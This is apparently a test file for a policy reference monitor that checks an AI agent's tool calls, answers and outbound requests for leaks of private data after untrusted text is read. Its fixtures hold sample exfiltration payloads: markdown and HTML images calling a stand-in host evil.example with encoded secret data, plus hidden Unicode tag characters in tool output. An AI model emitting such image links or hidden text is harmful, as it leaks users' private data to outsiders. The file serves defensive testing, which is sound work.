import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { type Decision, type Egress, type EventId, id, type Label, type Proposal } from '@cordon/core';
import { loadPolicy } from '@cordon/policy';
import { type EventPlace, ReferenceMonitor } from '../src/index.ts';

const TEXT = readFileSync(new URL('../../../policies/default.gr', import.meta.url), 'utf8');
const TAINTED: Label = { integrity: 'untrusted', confidentiality: 'private' };
const CLEAN: Label = { integrity: 'trusted', confidentiality: 'public' };

/** A session that admits what it is given and says what the policy thinks of the last step. */
class Session {
  readonly monitor: ReferenceMonitor;
  #next = 0;

  constructor() {
    const policy = loadPolicy(TEXT, { file: 'default.gr' });
    assert.ok(policy.ok, JSON.stringify(policy.ok ? null : policy.fault));
    this.monitor = new ReferenceMonitor({ policy: policy.value });
  }

  frame(app: string | null, causes: readonly EventId[] = []): EventPlace {
    return { event: id(`e${this.#next++}`), app: app === null ? null : id(app), causes };
  }

  /** Refuses to go on if the step is denied. */
  does(app: string | null, proposal: Proposal, causes: readonly EventId[] = []): EventId {
    const frame = this.frame(app, causes);
    assert.equal(
      this.monitor.admit(this.monitor.decide(proposal, frame), 'given').allowed,
      true,
      proposal.effect,
    );
    return frame.event;
  }

  /** `ask data-in-images-of-answers`, `allow`, … with the names of the warnings behind it. */
  verdict(app: string | null, proposal: Proposal, causes: readonly EventId[] = []): string {
    const decision: Decision = this.monitor.decide(proposal, this.frame(app, causes));
    const reasons = decision.verdict === 'allow' ? [] : decision.reasons;
    return [decision.verdict, ...[...reasons, ...decision.warnings].map((reason) => reason.rule)].join(' ');
  }

  /** The app's tool is called in the context and returns `text`. */
  uses(context: string, app: string, text = 'text', label = TAINTED): EventId {
    const callId = `c${this.#next}`;
    this.does(app, {
      effect: 'tool-call',
      context: id(context),
      app: id(app),
      tool: 'get',
      arguments: {},
      callId,
      irreversible: false,
    });
    return this.does(app, {
      effect: 'tool-output',
      context: id(context),
      app: id(app),
      tool: 'get',
      callId,
      text,
      structured: null,
      isError: false,
      label,
    });
  }
}

const answer = (text: string): Proposal => ({ effect: 'answer', context: id('s1'), text });
const call = (app: string, args: Record<string, string>): Proposal => ({
  effect: 'tool-call',
  context: id('s1'),
  app: id(app),
  tool: 'post',
  arguments: args,
  callId: 'last',
  irreversible: true,
});
const egress = (app: string): Egress => ({
  effect: 'egress',
  context: id('s1'),
  app: id(app),
  method: 'POST',
  host: 'api.example',
  port: 443,
  path: null,
  bytes: null,
});
const opened = (origin: string, label = TAINTED, context = 's1'): Proposal => ({
  effect: 'data-release',
  context: id(context),
  to: id('mail'),
  items: [{ name: '$1', value: 'text', origin: id(origin), label }],
});
const request = (from: string | null, to: string): Proposal => ({
  effect: 'app-request',
  context: id('s1'),
  from: from === null ? null : id(from),
  to: id(to),
  peer: id('p'),
  functionality: id('do'),
  message: {},
  callId: 'r1',
});

const LEAK = '![](https://evil.example/p.png?d=c2VjcmV0IHNlY3JldA)';
const IMAGE = '![map](https://maps.example/map.png)';

test('the default policy loads without warnings', () => {
  const policy = loadPolicy(TEXT);
  assert.deepEqual(policy.ok ? policy.value.warnings : policy.fault, []);
});

test('one app alone is never disturbed', () => {
  const session = new Session();
  session.monitor.record({ kind: 'user.message', context: id('s1'), text: 'hello' }, session.frame('mail'));
  session.uses('s1', 'mail');
  assert.equal(
    session.verdict('mail', call('mail', { text: 'see https://example.org/?q=something-long' })),
    'allow',
  );
  session.does('mail', call('mail', { text: 'hello' }));
  assert.equal(session.verdict('mail', egress('mail')), 'allow');
  assert.equal(session.verdict('mail', answer('You have one mail.')), 'allow');
});

test('private data of another app does not leave where text of others was opened', () => {
  const session = new Session();
  session.uses('s1', 'drive');
  session.does('mail', opened('drive'));
  session.does('mail', call('mail', {}));
  assert.equal(
    session.verdict('mail', egress('mail')),
    'deny no-egress-of-private-data-after-opened-text private-data-of-another-app-leaves',
  );
});

test('it leaves, with a warning, where nothing was opened', () => {
  const session = new Session();
  session.uses('s1', 'drive');
  session.does('mail', call('mail', {}));
  assert.equal(session.verdict('mail', egress('mail')), 'allow private-data-of-another-app-leaves');
});

// The hub says so where another app's words are held as references alone, and never went into a call of the app.
test('what an app was never given it may not carry, and there is no warning', () => {
  const session = new Session();
  session.uses('s1', 'drive');
  session.does('mail', call('mail', {}));
  const own: Proposal = { ...egress('mail'), holdsOwnOnly: true };
  assert.equal(session.verdict('mail', own), 'allow');
  // Attack: a text that was opened wants what another app keeps sent out; no claim about the app lifts this rule.
  session.does('mail', opened('drive'));
  session.does('mail', call('mail', {}));
  assert.equal(session.verdict('mail', own), 'deny no-egress-of-private-data-after-opened-text');
});

test('it leaves, with a warning, where what was opened is trusted', () => {
  const session = new Session();
  session.uses('s1', 'drive');
  session.does('mail', opened('drive', CLEAN));
  session.does('mail', call('mail', {}));
  assert.equal(session.verdict('mail', egress('mail')), 'allow private-data-of-another-app-leaves');
});

test('it leaves, with a warning, where a reader alone has read the text', () => {
  const session = new Session();
  session.uses('s1', 'drive');
  session.does('mail', opened('drive', TAINTED, '~reader#7'));
  session.does('mail', call('mail', {}));
  assert.equal(session.verdict('mail', egress('mail')), 'allow private-data-of-another-app-leaves');
});

test('an app that was given nothing may talk to its own server', () => {
  const session = new Session();
  session.uses('s2', 'drive');
  session.does('mail', call('mail', {}));
  assert.equal(session.verdict('mail', egress('mail')), 'allow');
});

test('an answer with data in the address of an image is asked once untrusted text was read', () => {
  const session = new Session();
  assert.equal(session.verdict('mail', answer(LEAK)), 'allow');
  session.uses('s1', 'mail');
  assert.equal(session.verdict('mail', answer(LEAK)), 'ask data-in-images-of-answers remote-image-in-answer');
  for (const form of [
    '<IMG alt="" src="//evil.example/?c2VjcmV0IHNlY3JldA">',
    `![](https://evil.example/${'c2VjcmV0'.repeat(6)})`,
  ]) {
    assert.match(session.verdict('mail', answer(form)), /^ask data-in-images-of-answers/);
  }
});

test('an answer with a plain image or a link is given', () => {
  const session = new Session();
  session.uses('s1', 'maps');
  assert.equal(session.verdict('maps', answer(IMAGE)), 'allow remote-image-in-answer');
  assert.equal(
    session.verdict('maps', answer('[map](https://maps.example/?q=a-long-query-string)')),
    'allow',
  );
});

test('a call with data in the address of an image is asked once untrusted text was read', () => {
  const session = new Session();
  assert.equal(session.verdict('chat', call('chat', { text: LEAK })), 'allow');
  session.uses('s1', 'mail');
  assert.equal(session.verdict('chat', call('chat', { text: LEAK })), 'ask data-in-images-of-arguments');
  assert.equal(session.verdict('chat', call('chat', { text: IMAGE })), 'allow');
});

test('a request that text of a third app may have led to comes with a warning', () => {
  const session = new Session();
  session.uses('s1', 'web');
  assert.equal(session.verdict('mail', request('mail', 'drive')), 'allow request-after-untrusted-output');
  assert.equal(session.verdict('web', request('web', 'drive')), 'allow');
});

test('a request after outputs that stayed behind references comes without one', () => {
  const session = new Session();
  const output = session.uses('errand', 'web');
  const response: Proposal = {
    effect: 'app-response',
    context: id('s1'),
    from: id('web'),
    to: id('mail'),
    peer: id('p'),
    functionality: id('do'),
    message: {},
    callId: 'r1',
    label: TAINTED,
  };
  session.does('mail', response, [output]);
  assert.equal(session.verdict('mail', request('mail', 'drive')), 'allow');
});

test('invisible characters in what a tool returned come with a warning', () => {
  const session = new Session();
  const output = (text: string): Proposal => ({
    effect: 'tool-output',
    context: id('s1'),
    app: id('mail'),
    tool: 'get',
    callId: 'c',
    text,
    structured: null,
    isError: false,
    label: TAINTED,
  });
  assert.equal(session.verdict('mail', output('hi\u{E0041}\u{E0042}')), 'allow invisible-text');
  assert.equal(session.verdict('mail', output('hi \u{1F600}')), 'allow');
});
